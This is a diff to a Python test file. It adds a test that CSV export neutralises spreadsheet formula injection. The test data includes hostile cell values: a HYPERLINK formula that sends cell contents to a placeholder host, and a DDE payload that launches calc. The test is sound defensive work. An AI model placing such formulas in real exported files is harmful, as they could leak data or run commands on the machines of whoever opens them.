@@ -110,9 +110,11 @@ def test_export_records_are_grounded_and_complete(project, capsys):
 def test_export_csv(project, capsys):
     extract_all(project / "seeds", project / "briefs")
     assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
-    lines = capsys.readouterr().out.splitlines()
-    assert lines[0].startswith("kind,label,source,quote,start,end,rebuts,name,count,value,status")
-    assert len(lines) > 100
+    import csv
+    import io
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    assert rows[0][:11] == "kind,label,source,quote,start,end,rebuts,name,count,value,status".split(",")
+    assert len(rows) > 100
 
 
 def test_rejected_items_are_not_exported(project, capsys):
@@ -291,3 +293,26 @@ def test_a_sidecar_added_or_changed_re_extracts_its_source(project):
         assert report.written and len(report.skipped) == 4
         assert f"outlet: {outlet}" in brief.read_text(encoding="utf-8")
     assert extract_all(project / "seeds", project / "briefs").written == []
+
+
+def test_export_csv_neutralises_formulas(project, capsys):
+    """Issue 20, item 10: a text cell a spreadsheet would run as a formula (OWASP's list:
+    = + - @ tab, carriage return) starts with an apostrophe; JSON Lines keeps the text as is."""
+    import csv
+    import io
+    from generator.briefs.export import to_csv
+    hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1,2)", "\tTab first", "\rReturn first", "plain text", "a = b"]
+    recs = [{"kind": "quote", "label": text, "source": "s", "quote": text, "start": 0, "end": len(text),
+             "status": "manual"} for text in hostile]
+    recs.append({"kind": "actor", "label": "a", "source": "s", "name": "-Anonymous", "count": -1})
+    rows = list(csv.DictReader(io.StringIO(to_csv(recs), newline="")))
+    for text, row in zip(hostile, rows):
+        expected = text if text in ("plain text", "a = b") else "'" + text
+        assert row["quote"] == expected and row["label"] == expected
+        assert row["start"] == "0"
+    assert rows[-1]["name"] == "'-Anonymous" and rows[-1]["count"] == "-1"   # a number stays one
+    extract_all(project / "seeds", project / "briefs")
+    assert main(["export", "--briefs", str(project / "briefs"), "--format", "csv"]) == 0
+    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out, newline="")) for c in row]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
